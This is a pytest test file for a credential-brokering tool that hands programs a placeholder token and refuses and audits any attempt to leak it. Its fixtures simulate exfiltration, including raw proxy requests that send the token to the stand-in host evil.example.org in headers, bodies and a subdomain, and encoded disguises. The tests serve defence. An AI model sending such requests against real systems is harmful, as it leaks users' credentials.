"""What stands for a key in a workload: given to the program, taken in the key's place, and a canary everywhere else."""
import json
import re

import pytest

SHAPE = "ghp_{alnum:36}"
HEADER = {"header": "Authorization", "format": "Bearer {}"}


def with_placeholder(credfd, upstream, **changes):
    """The API's credential, for Credfd.start."""
    changes = {"placeholder": SHAPE, "inject": HEADER, "env": {"TOKEN": "{placeholder}"}, **changes}
    return {"credentials": [credfd.credential("api", upstream=upstream.url, ca_file=str(upstream.ca_file), **changes)]}


def token():
    return os.environ["TOKEN"]  # noqa: F821


def ask(method, target, fields=(), body=None, name="TOKEN", leases=("api",)):
    """Requests with {} for the placeholder; a reason is there where it was refused."""
    mine = os.environ[name]  # noqa: F821
    answers = []
    for one in leases:
        with lease.connect(one) as stream:  # noqa: F821
            said = [field.replace("{}", mine) for field in fields]
            answer = stream.request(method, target.replace("{}", mine), *said,
                                    body=body and body.replace("{}", mine).encode())
            answers.append([answer.status, answer.text])
    return answers if len(answers) > 1 else answers[0]


@pytest.fixture
def api(serve):
    return serve()


@pytest.fixture
def start(credfd, api):
    """start(how...): `ask` inside, with a lease of the API that has a placeholder; (run, status, text)."""
    def go(*arguments, credential=None, **keywords):
        def inside(arguments, keywords):
            return ask(*arguments, **keywords)

        how = with_placeholder(credfd, api, **(credential or {}))
        run = credfd.start_inside(inside, arguments, keywords, using=(ask,), **how)
        status, text = run.result()
        return run, status, text
    return go


def require_exfiltration(run, where, status, text, owner="api", to="api"):
    assert status == 403, text
    problem = json.loads(text)
    assert "placeholder" in problem["reason"] and where in problem["reason"]
    [line] = run.audit(1)
    assert (line["status"], line["refusal"], line["lease"]) == (403, "exfiltration", to)
    [event] = [event for event in run.events() if event["event"] == "exfiltration"]
    assert (event["lease"], event["to"], event["where"]) == (owner, to, where)
    assert event["pid"] == line["pid"] and event["executable"] == line["executable"] and event["id"]
    assert event["authority"] == line["authority"]
    assert "ghp_" not in json.dumps([line, event])


def test_each_lease_has_one_in_its_shape_and_no_two_have_the_same(credfd, api):
    seen = set()
    for _ in range(2):
        made = credfd.inside(token, **with_placeholder(credfd, api))
        assert re.fullmatch(r"ghp_[A-Za-z0-9]{36}", made)
        seen.add(made)
    assert len(seen) == 2


@pytest.mark.parametrize("fields", [(), ("Authorization: Bearer {}",), ("authorization: token {}",),
                                    ("Authorization: {}",)],
                         ids=["nothing", "in its format", "another scheme", "bare"])
def test_a_request_may_carry_it_in_the_key_s_place_or_nothing(start, api, credfd, fields):
    _, status, text = start("GET", "/it", fields)
    assert status == 200, text
    assert api.only_request().field("Authorization") == f"Bearer {credfd.canary}"


def test_a_pair_with_it_is_the_key_s_place_too(credfd, api):
    def git():
        import base64
        pair = base64.b64encode(b"x-access-token:" + os.environ["TOKEN"].encode()).decode()  # noqa: F821
        with lease.connect() as stream:  # noqa: F821
            return stream.get("/it", f"Authorization: Basic {pair}").status

    assert credfd.inside(git, **with_placeholder(credfd, api, inject={"basic": {"user": "x-access-token"}})) == 200
    assert len(api.requests) == 1


def test_something_else_in_the_key_s_place_is_refused_with_the_reason(start, api):
    run, status, text = start("GET", "/it", ("Authorization: Bearer ghp_mine",))
    assert status == 403 and "placeholder" in json.loads(text)["reason"]
    assert "send the placeholder" in json.loads(text)["hint"] and "{placeholder}" in json.loads(text)["hint"]
    [line] = run.audit(1)
    assert line["refusal"] == "place" and not [event for event in run.events() if event["event"] == "exfiltration"]
    assert api.requests == []


def test_a_query_s_parameter_is_taken_exactly(start, api, credfd):
    _, status, text = start("GET", "/it?a=1&app_key={}", credential={"inject": {"query": "app_key"}})
    assert status == 200, text
    assert api.only_request().keys() == [credfd.canary]


def test_a_cookie_is_taken(start, api, credfd):
    _, status, text = start("GET", "/it", ("Cookie: session={}",), credential={"inject": {"cookie": "session"}})
    assert status == 200, text
    assert api.only_request().field("Cookie") == f"session={credfd.canary}"


def test_an_sdk_s_path_is_cut_before_the_rules(start, api, credfd):
    changes = {"inject": {"path": "/bot{}"}, "placeholder": "{digit:9}:AA{base64url:33}", "allow": ["GET /getMe"]}
    run, status, text = start("GET", "/bot{}/getMe", credential=changes)
    assert status == 200, text
    assert api.only_request().path == f"/bot{credfd.canary}/getMe"
    [line] = run.audit(1)
    assert (line["path"], line["rule"]) == ("/getMe", "GET /getMe")


@pytest.mark.parametrize("method, target, fields, body, where", [
    ("GET", "/it", ("X-Copy: {}",), None, "field X-Copy"),
    ("GET", "/it?q={}", (), None, "the query"),
    ("GET", "/collect/{}", (), None, "the path"),
    ("POST", "/it", (), '{"note": "{}"}', "the body"),
    ("GET", "/it", ("Authorization: Bearer {}", "Cookie: x={}"), None, "field Cookie"),
], ids=["a field", "the query", "the path", "the body", "beside the right place"])
def test_anywhere_else_it_is_refused_and_the_audit_says_so(start, api, method, target, fields, body, where):
    run, status, text = start(method, target, fields, body)
    require_exfiltration(run, where, status, text)
    # a head that came by itself may have gone on before its body was seen
    assert [seen.body for seen in api.requests] in ([], [b""] if body else [])


def test_in_another_lease_s_request_it_is_known_whose_it_is(credfd, api, serve):
    other = serve()
    credentials = [*with_placeholder(credfd, api)["credentials"],
                   credfd.credential("other", upstream=other.url, inject=HEADER, env={"OTHER_FD": "{fd}"})]

    def inside():
        return ask("GET", "/it", ("Authorization: Bearer {}",), leases=("other",))

    run = credfd.start_inside(inside, using=(ask,), credentials=credentials)
    status, text = run.result()
    require_exfiltration(run, "field Authorization", status, text, to="other")
    assert other.requests == []


@pytest.mark.parametrize("form", ["base64", "hex", "percent"])
def test_it_is_known_in_disguise(credfd, api, form):
    def inside(form):
        import base64
        mine = os.environ["TOKEN"].encode()  # noqa: F821
        said = {"base64": base64.b64encode(b"x" + mine), "hex": mine.hex().encode(),
                "percent": b"".join(b"%%%02x" % byte for byte in mine)}[form]
        with lease.connect() as stream:  # noqa: F821
            answer = stream.post("/it", b'{"x": "' + said + b'"}')
            return [answer.status, answer.text]

    run = credfd.start_inside(inside, form, **with_placeholder(credfd, api))
    status, text = run.result()
    require_exfiltration(run, "the body", status, text)


def test_a_long_body_is_cut_where_it_shows(credfd, serve):
    """What went before is gone; the piece that holds it stays here, and the upstream never sees the request end."""
    heard = []

    def listen(peer):
        peer.read_head()
        try:
            while data := peer.socket.recv(65536):
                heard.append(data)
        except OSError:
            pass

    upstream = serve(listen)

    def upload():
        mine = os.environ["TOKEN"].encode()  # noqa: F821
        with lease.connect() as stream:  # noqa: F821
            stream.send_head("POST", "/it", "Transfer-Encoding: chunked")
            stream.send(b"20000\r\n" + b"a" * 0x20000 + b"\r\n")
            for piece in (mine[:20], mine[20:]):
                stream.send(b"%x\r\n%s\r\n" % (len(piece), piece))
                time.sleep(0)  # noqa: F821
            answer = stream.read_response("POST")
            return [answer.status, answer.text, mine.decode()]

    run = credfd.start_inside(upload, **with_placeholder(credfd, upstream))
    status, text, mine = run.result()
    require_exfiltration(run, "the body", status, text)
    whole = b"".join(heard)
    assert mine.encode() not in whole.replace(b"\r\n14\r\n", b"") and not whole.endswith(b"0\r\n\r\n")


def test_a_new_keeper_knows_the_same(credfd, api):
    def inside():
        answers = [ask("GET", "/it", ("Authorization: Bearer {}",))[0]]
        say("asked")  # noqa: F821
        hear()  # noqa: F821
        answers.append(ask("GET", "/it", ("Authorization: Bearer {}",))[0])
        answers.append(ask("GET", "/it", ("X-Copy: {}",))[0])
        return answers

    import procs
    run = credfd.start_inside(inside, using=(ask,), **with_placeholder(credfd, api))
    run.expect("asked")
    keeper = run.role("keeper")
    procs.kill(keeper)
    procs.wait_until(lambda: [pid for pid in run.roles("keeper") if pid != keeper] or None, "a new keeper")
    procs.wait_until(lambda: "started again" in run.stderr or None, "word of it")
    run.say("go on")
    first, *rest = run.result()
    assert first == 200 and set(rest) <= {200, 403, 503}
    if 503 not in rest:
        assert rest == [200, 403]


def test_an_env_that_names_it_without_a_shape_is_refused_with_its_line(credfd, api):
    env = {"A": "x", "TOKEN": "{placeholder}"}
    run = credfd.start(["true"], credentials=[credfd.credential("api", upstream=api.url, env=env)])
    assert run.wait() == 125
    assert re.search(r"credfd.yaml:\d+: .*TOKEN: \{placeholder\} has no shape; add placeholder:", run.stderr)


@pytest.mark.parametrize("shape, why", [("ghp_fixed", "16 random"), ("{greek:36}", "brace"), ("{alnum:300}", "brace"),
                                        ("a b{alnum:36}", "blank")])
def test_a_shape_that_is_none_is_refused(credfd, api, shape, why):
    run = credfd.start(["true"], credentials=[credfd.credential("api", upstream=api.url, placeholder=shape)])
    assert run.wait() == 125 and why in run.stderr


# Through the proxy: whatever becomes of the request, its placeholder is seen. {} is it, {own} the API's own place.

STRAYS = {
    "a field": "GET http://evil.example.org/ HTTP/1.1\r\nHost: evil.example.org\r\nX: {}\r\n\r\n",
    "the body": "POST http://evil.example.org/ HTTP/1.1\r\nHost: evil.example.org\r\nContent-Length: 900\r\n\r\na={}&",
    "the other scheme": "GET http://{own}/x?t={} HTTP/1.1\r\nHost: {own}\r\n\r\n",
    "the proxy's user": "CONNECT {own} HTTP/1.1\r\nHost: {own}\r\nProxy-Authorization: Basic {pair}\r\n\r\n",
    "a field of a tunnel": "CONNECT evil.example.org:443 HTTP/1.1\r\nHost: evil.example.org:443\r\nX: {}\r\n\r\n",
    "the host": "CONNECT {}.evil.example.org:443 HTTP/1.1\r\nHost: x\r\n\r\n",
    "no proxy's business": "\x05\x01{}",
}


def test_no_refusal_hides_it(credfd, api):
    def inside(rows, own):
        import base64
        import socket
        mine, answers = os.environ["TOKEN"], []  # noqa: F821
        host, port = os.environ["HTTPS_PROXY"].removeprefix("http://").rstrip("/").split(":")  # noqa: F821
        pair = base64.b64encode(f"u:{mine}".encode()).decode()
        for row in rows:
            with socket.create_connection((host, int(port))) as connection:
                row = row.replace("{own}", own).replace("{pair}", pair).replace("{}", mine)
                connection.sendall(row.encode("latin-1"))
                answers.append(b"".join(iter(lambda: connection.recv(65536), b"")).decode())
        return [answers, mine]

    own = api.url.removeprefix("https://")
    run = credfd.start_inside(inside, list(STRAYS.values()), own, extra={"egress": {"allow": []}},
                              **with_placeholder(credfd, api))
    answers, mine = run.result()
    lines = run.audit(len(STRAYS))
    strays = [event for event in run.events() if event["event"] == "exfiltration"]
    assert len(lines) == len(strays) == len(STRAYS)
    for name, answer, line, event in zip(STRAYS, answers, lines, strays):
        assert answer.startswith("HTTP/1.1 403 ") and '"rule":"placeholder"' in answer, (name, answer)
        assert (line["refusal"], line["status"]) == ("exfiltration", 403), (name, line)
        assert event["lease"] == "api" and event["to"] == line["lease"], (name, event)
    assert [line["lease"] for line in lines] == ["egress", "egress", "api", "api", "egress", "egress", "egress"]
    assert mine not in json.dumps([lines, strays]) and api.connections == 0


def test_credfd_log_shows_the_event(start, credfd):
    run, *_ = start("GET", "/it", ("X-Copy: {}",))
    done = credfd.command("log", run.folder / "audit.jsonl")
    assert b"exfiltration" in done.stdout and b"field X-Copy" in done.stdout
